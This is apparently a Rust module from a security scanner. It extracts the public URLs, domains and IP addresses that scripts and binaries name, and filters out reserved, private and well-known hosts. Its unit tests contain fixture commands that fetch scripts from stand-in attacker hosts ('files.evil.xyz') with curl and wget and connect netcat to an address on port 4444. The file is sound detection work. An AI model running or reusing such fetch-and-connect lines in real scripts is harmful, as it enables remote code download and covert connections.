//! Collects the URLs, domains and addresses that programs name.
//!
//! Nothing is judged here: the values are matched against intelligence and link images to one another.
//!
//! - Sees: `http`, `https`, `ftp`, `tcp` and `ws` URLs in scripts, ELF files and text that looks like code, up to 64 a file.
//! - Misses: hosts without a scheme (see `bare-hosts`), split or encoded ones. In comments, rule files and lists of more than
//!   400 URLs values have low confidence, and are judged only where the image runs the file.
//! - False alarms: none that count, as every match is a fact. To keep them few, loopback, private, documentation and
//!   reserved addresses, names that cannot be resolved, templates, and the hosts of `rules/intel/common_hosts.txt` are skipped.
//! - Source: RFC 3986; RFC 6761 (special names); RFC 6890 (special addresses).

use std::{cell::LazyCell, collections::BTreeSet, net::Ipv4Addr};

use model::{Category, Confidence, FileKind, Indicator, IndicatorKind, Maturity, Severity, Weight};

use super::{About, Detector, Match, Sample, Scope};
use crate::{intel::COMMON_HOSTS, shell::text};

pub(crate) const DETECTOR: Detector = Detector {
    about: About {
        id: "indicators",
        title: "Names hosts on the internet",
        category: Category::Other,
        weight: Weight::Fact,
        severity: Severity::Info,
        confidence: Confidence::High,
        maturity: Maturity::Stable,
        techniques: &[],
    },
    scope: Scope::Content {
        kinds: &[FileKind::Script, FileKind::Elf, FileKind::Text],
        literals: &["http://", "https://", "ftp://", "tcp://", "wss://"],
    },
    inspect,
};

/// Most values kept of one file.
const VALUES_MAX: usize = 64;
/// A text with more URLs is a list of them.
const LIST_MIN: usize = 400;
/// Longest URL kept.
const URL_BYTES_MAX: usize = 256;
/// Fields of a time, and the first word behind them.
const CRON_WORDS: usize = 6;
/// Most lines looked at for a cron job.
const CRON_LINES_MAX: usize = 100;
/// Text is judged to be code or not by this much of it.
const HEAD_BYTES: usize = 4096;

fn inspect(sample: &Sample<'_>) -> Vec<Match> {
    // Facts to link images by: where the kind is doubtful, only what stands in text, so that data names no hosts.
    let reads_as_text = sample.hits.first().is_some_and(|hit| text::stands_in_text(sample, hit.offset));
    let is_named = matches!(sample.kind, FileKind::Script | FileKind::Elf | FileKind::Text);
    if sample.kind == FileKind::Archive
        || (sample.kind == FileKind::Text && !looks_like_code(sample.bytes))
        || (!is_named && !text::is_program(sample) && !reads_as_text)
    {
        return Vec::new();
    }
    // Asked for only where a host is left that not everybody names.
    let is_list = LazyCell::new(|| {
        sample.kind == FileKind::Text
            && (sample.hits.len() > LIST_MIN || is_rule_file(sample.bytes) || is_markdown(sample.bytes))
    });
    // What is named, and what is only talked about: in comments, rule files, lists.
    let (mut named, mut mentioned) = (Values::default(), Values::default());
    let mut done = 0;
    for hit in sample.hits {
        // A URL inside a URL is a parameter.
        if hit.offset < done || named.values.len() >= VALUES_MAX {
            continue;
        }
        let Some(rest) = sample.bytes.get(hit.offset..) else { continue };
        let length = rest.iter().take(URL_BYTES_MAX).take_while(|b| is_url_byte(**b)).count();
        done = hit.offset + length;
        let Some(url) = rest.get(..length).and_then(|url| std::str::from_utf8(url).ok()) else { continue };
        let Some(host) = public_host(url) else { continue };
        let values = if *is_list || is_in_comment(sample, hit.offset) || is_home_page(sample, hit.offset, url) {
            &mut mentioned
        } else {
            &mut named
        };
        if values.values.len() < VALUES_MAX {
            let url = url.trim_end_matches(['.', ',', ')', ';', ':', '!', '?', '*', '_', '/']);
            values.first.get_or_insert(hit.offset);
            values.values.insert(Indicator { kind: IndicatorKind::Url, value: url.to_owned() });
            values.values.insert(host);
        }
    }
    let named = named.said("names", Confidence::High);
    named.into_iter().chain(mentioned.said("talks about", Confidence::Low)).collect()
}

#[derive(Default)]
struct Values {
    values: BTreeSet<Indicator>,
    first: Option<usize>,
}

impl Values {
    fn said(self, verb: &str, confidence: Confidence) -> Option<Match> {
        let first = self.first?;
        let mut hosts = self.values.iter().filter(|it| it.kind != IndicatorKind::Url).map(|it| it.value.as_str());
        let name = hosts.next().unwrap_or_default();
        let summary = match hosts.count() {
            0 => format!("{verb} {name}"),
            more => format!("{verb} {name} and {more} more"),
        };
        let mut found = Match::new(summary, first);
        found.confidence = Some(confidence);
        found.indicators = self.values.into_iter().take(VALUES_MAX).collect();
        Some(found)
    }
}

/// Whether the line is a comment in some common language: a maintainer's address, the page an idea came from.
fn is_in_comment(sample: &Sample<'_>, offset: usize) -> bool {
    const LINE_BYTES_MAX: usize = 256;
    if !matches!(sample.kind, FileKind::Script | FileKind::Text) {
        return false;
    }
    let (_, line) = sample.line(offset, LINE_BYTES_MAX);
    let line = String::from_utf8_lossy(line);
    // Vim begins comments with a quote that is not closed.
    let is_vim = line.trim_start().starts_with("\" ") && line.matches('"').count() == 1;
    is_vim || text::is_comment(&line)
}

/// Whether it is the value of a field in which packages name their home page, also in a program that holds such a
/// description; or a person's own page (`/~name/`). Source: Debian Policy 5.6.23, Cabal user guide, Python core metadata.
fn is_home_page(sample: &Sample<'_>, offset: usize, url: &str) -> bool {
    let is_of_person = || url.splitn(4, '/').nth(3).is_some_and(|path| path.starts_with('~'));
    let (_, line) = sample.line(offset, 64);
    let line = line.trim_ascii_start();
    [b"Homepage:".as_slice(), b"homepage:", b"Home-page:", b"Bug-reports:", b"bug-reports:"]
        .iter()
        .any(|field| line.starts_with(field))
        || is_of_person()
}

/// Whether it is a document in Markdown: links or headings, and examples set apart. What it names is talked about.
pub(super) fn is_markdown(bytes: &[u8]) -> bool {
    let head = bytes.get(..HEAD_BYTES).unwrap_or(bytes);
    let has = |mark: &[u8]| memchr::memmem::find(head, mark).is_some();
    head.trim_ascii_start().starts_with(b"# ") && (has(b"](http") || has(b"](./")) && (has(b"\n```") || has(b"\n## "))
}

/// Brackets, braces, `=`, `;` and `$` make up at least one character in fifty, and it is not markup; or it is a page that a
/// server runs, or a table of cron.
pub(super) fn looks_like_code(bytes: &[u8]) -> bool {
    let head = bytes.get(..HEAD_BYTES).unwrap_or(bytes);
    let is_page = [b"<?php".as_slice(), b"<?=", b"<%@"].iter().any(|mark| head.trim_ascii_start().starts_with(mark));
    if is_page {
        return true;
    }
    // HTML, XML, troff and TeX.
    let is_markup = [b"<".as_slice(), b".\\\"", b"'\\\"", b".TH ", b".Dd ", b"\\input texinfo", b"\\documentclass"]
        .iter()
        .any(|mark| head.trim_ascii_start().starts_with(mark));
    let enough = head.len().div_ceil(50);
    let has_signs = || head.iter().filter(|byte| IS_SIGN[usize::from(**byte)]).take(enough).count() >= enough;
    (!is_markup && has_signs()) || (memchr::memchr2(b'*', b'@', head).is_some() && is_cron_table(head))
}

/// What code has more of than prose.
const IS_SIGN: [bool; 256] = {
    let (mut table, signs, mut at) = ([false; 256], b"{}()=;$&|", 0);
    while at < signs.len() {
        table[signs[at] as usize] = true;
        at += 1;
    }
    table
};

/// Whether a line begins with the five fields of a time, one of them `*` or a part of it, or with `@daily` and the like, and a
/// command is behind it. Source: crontab(5).
fn is_cron_table(head: &[u8]) -> bool {
    let is_field = |word: &[u8]| {
        word.iter().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'*' | b'/' | b',' | b'-'))
            && (word.contains(&b'*') || word.first().is_some_and(u8::is_ascii_digit))
    };
    let is_timed = |line: &[u8]| {
        let words: Vec<&[u8]> =
            line.split(u8::is_ascii_whitespace).filter(|word| !word.is_empty()).take(CRON_WORDS).collect();
        match words.as_slice() {
            [b"@reboot" | b"@hourly" | b"@daily" | b"@midnight" | b"@weekly" | b"@monthly", _, ..] => true,
            [time @ .., command] if time.len() + 1 == CRON_WORDS => {
                time.iter().all(|word| is_field(word))
                    && time.iter().any(|word| word.starts_with(b"*"))
                    && command.first().is_some_and(|byte| byte.is_ascii_alphabetic() || b"/.[~$_".contains(byte))
            }
            _ => false,
        }
    };
    head.split(|byte| *byte == b'\n').take(CRON_LINES_MAX).any(is_timed)
}

/// Whether the text is made to recognise hosts and not to contact them: rules of YARA, Suricata and Snort, filters of ad
/// blockers, signatures of ClamAV. What is named there is only looked at where the image runs the file, so that nobody is
/// helped by dressing a script up as one.
pub(super) fn is_rule_file(bytes: &[u8]) -> bool {
    let head = bytes.get(..HEAD_BYTES).unwrap_or(bytes);
    let (mut names_rule, mut has_parts, mut acts, mut filters, mut signatures) = (false, false, false, 0, 0);
    for line in head.split(|&byte| byte == b'\n').map(<[u8]>::trim_ascii_start) {
        let begins = |starts: &[&[u8]]| starts.iter().any(|start| line.starts_with(start));
        // No other line can begin with what is looked for.
        match line.first() {
            Some(b'r' | b'p' | b'g') => {
                names_rule |= begins(&[b"rule ", b"private rule ", b"global rule "]);
                acts |= begins(&[b"reject "]);
            }
            Some(b'c' | b's') => has_parts |= begins(&[b"condition:", b"strings:"]),
            Some(b'a' | b'd' | b'#') => acts |= begins(&[b"alert ", b"drop ", b"# alert ", b"#alert "]),
            Some(b'|' | b'@') => filters += usize::from(begins(&[b"||", b"@@||"])),
            _ => {}
        }
        let holds = |text| memchr::memmem::find(line, text).is_some();
        let colons = || memchr::memchr_iter(b':', line).take(3).count();
        signatures += usize::from((colons() == 3 && holds(b":*:")) || holds(b";Engine:"));
    }
    (names_rule && has_parts)
        || (acts && memchr::memmem::find(head, b"sid:").is_some())
        || head.starts_with(b"[Adblock")
        || filters >= 3
        || signatures >= 3
}

fn is_url_byte(byte: u8) -> bool {
    byte.is_ascii_graphic() && !matches!(byte, b'"' | b'\'' | b'`' | b'<' | b'>' | b'\\' | b'^' | b'|')
}

/// The host of a URL as an indicator, if it could be reached and is not one that everybody names.
fn public_host(url: &str) -> Option<Indicator> {
    let (_, rest) = url.split_once("://")?;
    let end = rest.find(['/', '?', '#', ',', ')', ']', ';', '}']).unwrap_or(rest.len());
    let (authority, path) = rest.split_at_checked(end)?;
    let authority = authority.rsplit_once('@').map_or(authority, |(_, host)| host);
    let (host, port) = authority.split_once(':').map_or((authority, ""), |(host, port)| (host, port));
    let host = host.trim_end_matches('.').to_ascii_lowercase();
    if let Ok(address) = host.parse::<Ipv4Addr>() {
        let has_port = port.parse::<u16>().is_ok();
        let value = if has_port { format!("{address}:{port}") } else { address.to_string() };
        return is_public(address).then_some(Indicator { kind: IndicatorKind::Address, value });
    }
    (is_name(&host) && !is_common(&host, path)).then_some(Indicator { kind: IndicatorKind::Domain, value: host })
}

pub(super) fn is_public(address: Ipv4Addr) -> bool {
    let [a, b, c, _] = address.octets();
    !(address.is_loopback()
        || address.is_private()
        || address.is_link_local()
        || address.is_documentation()
        || address.is_multicast()
        || a == 0
        || a >= 240
        || (a == 100 && b & 0xc0 == 64)
        || (a == 192 && b == 0 && c == 0)
        || (a == 198 && b & 0xfe == 18)
        // What people write when they need just any address.
        || address == Ipv4Addr::new(1, 2, 3, 4))
}

/// At least two labels of letters, digits and inner hyphens, and a top-level domain of letters that is not set apart.
fn is_name(host: &str) -> bool {
    const SET_APART: &[&str] = &[
        "test",
        "example",
        "invalid",
        "localhost",
        "local",
        "internal",
        "localdomain",
        "lan",
        "home",
        "corp",
        "foo",
        "bar",
        "tld",
    ];
    let top = host.rsplit('.').next().unwrap_or_default();
    host.len() <= 253
        && host.contains('.')
        && host.split('.').all(|label| {
            (1..=63).contains(&label.len())
                && !label.starts_with('-')
                && label.bytes().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_'))
        })
        && top.len() >= 2
        && top.bytes().all(|b| b.is_ascii_lowercase())
        && !SET_APART.contains(&top)
}

pub(super) fn is_common(host: &str, path: &str) -> bool {
    let is_example =
        |domain: &str| host.strip_suffix(domain).is_some_and(|left| left.is_empty() || left.ends_with('.'));
    if COMMON_HOSTS.find(host).is_some() || ["example.com", "example.org", "example.net"].into_iter().any(is_example) {
        return true;
    }
    // Every project links to its home; what matters are the files that anybody can put there.
    matches!(host, "github.com" | "www.github.com" | "gitlab.com" | "bitbucket.org" | "sourceforge.net")
        && !["/releases/download/", "/raw/", "/archive/", "/downloads/"].iter().any(|files| path.contains(files))
}

#[cfg(test)]
mod tests {
    use super::DETECTOR;
    use crate::detectors::testing::{check, run};

    fn values(text: &str) -> Vec<String> {
        let script = format!("#!/bin/sh\n{text}\n");
        let found = run(&DETECTOR, "x", 0o755, script.as_bytes());
        found.iter().flat_map(|found| &found.indicators).map(|indicator| indicator.value.clone()).collect()
    }

    #[test]
    fn hosts_and_urls_are_kept_once() {
        assert_eq!(
            values("curl http://files.evil.xyz/a.sh; curl http://files.evil.xyz/a.sh; nc tcp://45.9.148.1:4444"),
            ["http://files.evil.xyz/a.sh", "tcp://45.9.148.1:4444", "files.evil.xyz", "45.9.148.1:4444"]
        );
    }

    #[test]
    fn what_nobody_can_reach_or_everybody_names_is_left_out() {
        for text in [
            "http://127.0.0.1/ http://10.0.0.1 http://192.0.2.7 http://localhost:80 http://[::1]/ http://$HOST/x",
            "https://example.com/ https://www.w3.org/2000/svg https://deb.debian.org/debian http://foo.test https://",
            "https://github.com/a/b/issues/1",
        ] {
            assert_eq!(values(text), [""; 0], "{text}");
        }
        assert_eq!(values("https://github.com/a/b/releases/download/v1/x").len(), 2);
    }

    #[test]
    fn prose_and_markup_are_passed_over() {
        check(&DETECTOR, "x", b"See http://files.evil.xyz/ for more about this and other words.\n", &[]);
        check(&DETECTOR, "x", b".\\\" (c)\n.TH X 1\nSee http://files.evil.xyz/ (x) (y) (z)\n", &[]);
        check(&DETECTOR, "x", b"<a href=\"http://files.evil.xyz/\">(x)</a>", &[]);
    }

    #[test]
    fn descriptions_of_packages_and_documents_only_talk() {
        check(&DETECTOR, "x", b"#!/bin/sh\nHomepage:   http://files.evil.xyz/x\n", &["talks about files.evil.xyz"]);
        let document =
            b"# tool\n\n[docs](https://docs.evil.xyz)\n\n```js\nrun({ at: 'https://files.evil.xyz' });\n```\n";
        check(&DETECTOR, "x", document, &["talks about docs.evil.xyz and 1 more"]);
        check(&DETECTOR, "x", b"\\input texinfo\n@uref{https://files.evil.xyz/a/} @code{x} @{\n", &[]);
    }

    #[test]
    fn pages_that_a_server_runs_and_cron_tables_are_code() {
        let page = b"<?php\n// front page\n$c = curl_init('http://ads.evil.xyz:8080/ads.txt');\n?><html></html>\n";
        check(&DETECTOR, "x", page, &["names ads.evil.xyz"]);
        let table =
            b"SHELL=/bin/sh\n*/10 * * * * www-data curl -fsS http://files.evil.xyz/data.json -o /srv/data.json\n";
        check(&DETECTOR, "x", table, &["names files.evil.xyz"]);
        check(&DETECTOR, "x", b"@daily wget -q http://files.evil.xyz/list -O /srv/list\n", &["names files.evil.xyz"]);
        let prose =
            b"Version 1 2 3 4 5 of http://files.evil.xyz/ is out\n1 2 3 4 5 6 lines of http://files.evil.xyz/\n";
        check(&DETECTOR, "x", prose, &[]);
    }

    #[test]
    fn a_file_of_nothing_but_urls_stays_bounded() {
        let many: String = (0..1000).map(|i| format!("https://h{i}.evil.xyz/;")).collect();
        assert_eq!(values(&many).len(), 64);
    }
}
